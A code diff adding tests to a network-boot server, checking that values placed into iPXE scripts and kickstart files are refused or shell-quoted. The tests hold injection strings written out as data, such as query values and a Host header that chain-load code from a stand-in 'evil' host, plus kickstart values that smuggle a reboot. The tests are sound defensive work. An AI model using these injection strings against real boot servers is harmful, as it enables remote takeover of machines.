@@ -5,6 +5,7 @@ import { readFileSync } from 'node:fs';
 import { pino } from 'pino';
 import { DEBIAN_IPXE_DIR, DEBIAN_IPXE_FILES, importIpxeBinaries } from '../src/boot/ipxe-binaries.js';
 import { startTestHead, type TestHead } from './helpers/head.js';
+import { rawRequest } from './helpers/http-raw.js';
 
 async function script(h: TestHead, mac: string): Promise<{ status: number; type: string | null; text: string }> {
   const res = await fetch(`${h.base.replace('/api/v1', '')}/boot/ipxe?mac=${mac}`);
@@ -47,7 +48,12 @@ test('a node with a complete boot config gets kernel (initrd= named), initramfs 
 
   t.regex((await script(h, '52:54:00:12:34:58')).text, /_boot_config names boot config nosuch, which does not exist/);
   t.regex((await script(h, '52:54:00:00:00:99')).text, /no node has MAC 52:54:00:00:00:99/);
-  t.regex((await script(h, 'garbage')).text, /no usable \?mac=/);
+  // Strict: anything but a MAC is refused, and nothing of it reaches a script.
+  for (const bad of ['garbage', '52:54:00:12:34:57%0Akernel%20http://evil/x', '52:54:00:12:34:57%20;%20chain%20http://evil/x']) {
+    const refused = await script(h, bad);
+    t.is(refused.status, 400, bad);
+    t.regex(JSON.parse(refused.text).reason, /Malformed \?mac=: expected a MAC address/);
+  }
 });
 
 test('rwram without an image is a retry; next and sanboot need no files', async (t) => {
@@ -80,4 +86,48 @@ test('Debian iPXE binaries are imported once as tftp/<name> and served at /boot/
   const res = await fetch(`${h.base.replace('/api/v1', '')}/boot/firmware/undionly.kpxe`);
   t.is(res.status, 200);
   t.true(Buffer.from(await res.arrayBuffer()).equals(readFileSync(`${DEBIAN_IPXE_DIR}/undionly.kpxe`)));
+});
+
+test('values go into a script or a kickstart as data: what iPXE or the shell would run is refused or quoted', async (t) => {
+  const h = await startTestHead(t);
+  const { access_token: token } = await h.login();
+  const uid = (await h.call('POST', '/bootconfigs', { token, body: { name: 'esc', boot_style: 'disked', kickstart: 'esc.ks', cmdline: 'console=<console> extra=<extra>' } })).json.data as string;
+  await upload(h, token, uid, 'kernel', Buffer.from('k'));
+  await upload(h, token, uid, 'initramfs', Buffer.from('i'));
+  const node = (await h.call('POST', '/nodes', { token, body: { mac: '02:00:00:00:00:11', attributes: { _boot_config: 'esc', console: 'ttyS0' } } })).json.data as string;
+  const withExtra = async (extra: string) => {
+    t.is((await h.call('PATCH', `/node/${node}/attributes`, { token, body: { extra } })).status, 200);
+    return (await script(h, '02:00:00:00:00:11')).text;
+  };
+  const commands = (text: string) => text.split('\n').filter((line) => !line.startsWith('echo '));
+
+  t.regex(await withExtra('quiet splash'), /\nkernel \S+ initrd=initrd.img console=ttyS0 extra=quiet splash inst.ks=/, 'spaces separate kernel arguments');
+  for (const [extra, why] of [
+    ['x ; chain http://evil/x', 'contains the word ;'],
+    ['x || chain http://evil/x', 'contains the word ||'],
+    ['x\nchain http://evil/x', 'contains a line break'],
+    ['${net0/ip}', 'contains $ {, which iPXE expands'],
+  ] as const) {
+    const text = await withExtra(extra);
+    t.regex(text, /\nsleep 30\nchain --replace --autofree http:\/\/[^\n]+\/boot\/ipxe\?mac=02:00:00:00:00:11\n$/, extra);
+    t.true(text.includes(`boot config esc: the value of <extra> cannot go into an iPXE script: it ${why}`), text);
+    t.false(commands(text).some((line) => line.includes('evil') || line.includes('${')), text);
+  }
+
+  // The Host header makes the script's URLs only when it is a host[:port].
+  const port = new URL(h.base).port;
+  const forged = await rawRequest(`http://127.0.0.1:${port}/boot/ipxe?mac=02:00:00:00:00:11`, { headers: { host: 'evil ; chain http://evil/x' } });
+  t.false(forged.body.toString().includes('evil'), forged.body.toString());
+  t.regex(forged.body.toString(), /\nchain --replace --autofree http:\/\/127\.0\.0\.1:\d+\/boot\/ipxe\?mac=02:00:00:00:00:11\n/, 'the configured address instead');
+
+  // A kickstart gets shell words: plain values as they are, others in single quotes; a line break is refused.
+  const ks = await fetch(`${h.base}/kickstart/esc.ks`, { method: 'PUT', headers: { authorization: `Bearer ${token}` }, body: 'network --hostname=<name>\n%post\necho <extra> > /etc/extra\n%end\n' });
+  t.is(ks.status, 200);
+  const render = () => fetch(`${h.base}/bootconfig/esc/kickstart?node=${node}`, { headers: { authorization: `Bearer ${token}` } });
+  await withExtra(`it's; reboot`);
+  t.is(await (await render()).text(), `network --hostname=n0\n%post\necho 'it'\\''s; reboot' > /etc/extra\n%end\n`);
+  await withExtra('x\n%pre\nreboot');
+  const refused = await render();
+  t.is(refused.status, 400);
+  t.is(((await refused.json()) as { reason: string }).reason, 'The value of <extra> cannot go into a kickstart: it contains a line break or another control character');
 });
